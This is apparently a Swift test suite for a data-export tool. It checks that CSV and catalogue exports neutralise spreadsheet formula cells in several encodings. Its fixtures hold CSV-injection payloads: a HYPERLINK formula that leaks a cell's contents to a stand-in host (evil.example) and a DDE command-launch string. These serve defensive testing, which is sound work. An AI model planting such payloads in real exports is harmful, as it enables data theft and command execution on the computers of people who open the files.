import DataflowCore
import Foundation
import Testing

/// Exported CSV read back by Python's csv module, in every encoding: cells a spreadsheet would
/// evaluate come back with a leading `'`, negative numbers and ordinary text unchanged, and
/// `--raw-cells` gives every cell back as stored. Catalogue and rejects CSV are neutralised too.
@Suite("Exports opened in Excel/WPS: formula cells neutralised")
struct FormulaGuardTests {
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-1+2", "@SUM(A1:A2)", "\tTAB", "\rCR", "=cmd|' /C calc'!A0",
    ]

    /// Reads a CSV file with Python's csv module in `encoding` and returns its rows.
    static func readCSV(_ file: String, encoding: String, in dir: URL) throws -> [[String]] {
        let script = """
        import csv, json, sys
        with open(sys.argv[1], encoding=sys.argv[2], newline='') as f:
            rows = list(csv.reader(f))
        print(json.dumps(rows, ensure_ascii=False))
        """
        let py = try Command.run("/usr/bin/env", ["python3", "-c", script, file, encoding], in: dir)
        guard py.status == 0, case .array(let rows) = try JSONParser.parse(Array(py.stdout.utf8)) else {
            Issue.record("python could not read \(file): \(py.stderr)")
            return []
        }
        return rows.map { row in
            guard case .array(let cells) = row else { return [] }
            return cells.map { $0.text ?? "" }
        }
    }

    @Test func exportedCellsAreNeutralisedInEveryEncodingAndRawOnRequest() throws {
        let fixed = try FixedWarehouse()
        let db = fixed.db
        try db.exec("DELETE FROM market_licenses")
        let insert = try db.prepare("""
            INSERT INTO market_licenses (_key, uscc, name, legal_rep, capital, staff, _hash, _deleted, _first_seen, _last_seen, _run_id)
            VALUES (?, ?, ?, ?, ?, ?, 'h', 0, '2026-11-29T02:00:00Z', '2026-11-29T02:00:00Z', 1)
            """)
        let names = Self.hostile + ["义乌小商品有限公司", "-"]
        for (i, name) in names.enumerated() {
            let uscc = String(format: "91330782MA%08d", i)
            try insert.run([.text(uscc), .text(uscc), .text(name), .text("张三"), .text(i == 0 ? "-12.5" : "100.25"), .integer(i == 0 ? -3 : 7)])
        }
        for (encoding, python) in [("utf8", "utf-8"), ("utf8-bom", "utf-8-sig"), ("gb18030", "gb18030")] {
            let file = fixed.root.appendingPathComponent("out-\(encoding).csv").path
            let result = try Command.run(Binaries.dataflow, ["export", "market_licenses", "--columns", "uscc,name,capital,staff", "--encoding", encoding,
                                                             "-o", file, "--project", fixed.root.path], in: fixed.root)
            #expect(result.status == 0, "\(result.output)")
            let rows = try Self.readCSV(file, encoding: python, in: fixed.root)
            #expect(rows.first == ["uscc", "name", "capital", "staff"])
            let body = Array(rows.dropFirst())
            #expect(body.map { $0[1] } == Self.hostile.map { "'" + $0 } + ["义乌小商品有限公司", "'-"], "\(encoding)")
            #expect(body.first?[2] == "-12.5" && body.first?[3] == "-3", "\(encoding): negative numbers are data, not formulas")

            let rawFile = fixed.root.appendingPathComponent("raw-\(encoding).csv").path
            let raw = try Command.run(Binaries.dataflow, ["export", "market_licenses", "--columns", "uscc,name", "--encoding", encoding, "--raw-cells",
                                                          "-o", rawFile, "--project", fixed.root.path], in: fixed.root)
            #expect(raw.status == 0, "\(raw.output)")
            #expect(try Self.readCSV(rawFile, encoding: python, in: fixed.root).dropFirst().map { $0[1] } == names, "\(encoding) --raw-cells")
        }
        let ndjson = try Command.run(Binaries.dataflow, ["export", "market_licenses", "--format", "ndjson", "--raw-cells", "--project", fixed.root.path], in: fixed.root)
        #expect(ndjson.status == 2 && ndjson.stderr.contains("--raw-cells applies to CSV only"), "\(ndjson.output)")
    }

    @Test func catalogueCSVIsNeutralisedToo() throws {
        let fixed = try FixedWarehouse()
        try fixed.db.exec("UPDATE _dataflow_run_datasets SET error = '=HYPERLINK(\"http://evil.example\")' WHERE dataset = 'service_cases'")
        let file = fixed.root.appendingPathComponent("catalog.csv").path
        let result = try Command.run(Binaries.dataflow, ["catalog", "--format", "csv", "-o", file, "--project", fixed.root.path], in: fixed.root)
        #expect(result.status == 0 || result.status == 4, "\(result.output)")
        let rows = try Self.readCSV(file, encoding: "utf-8", in: fixed.root)
        let header = rows.first ?? []
        let errorColumn = try #require(header.firstIndex(of: "last_error"))
        let errors = rows.dropFirst().map { $0[errorColumn] }
        #expect(errors.contains("'=HYPERLINK(\"http://evil.example\")"), "\(errors)")
        #expect(!errors.contains { $0.hasPrefix("=") })
    }
}
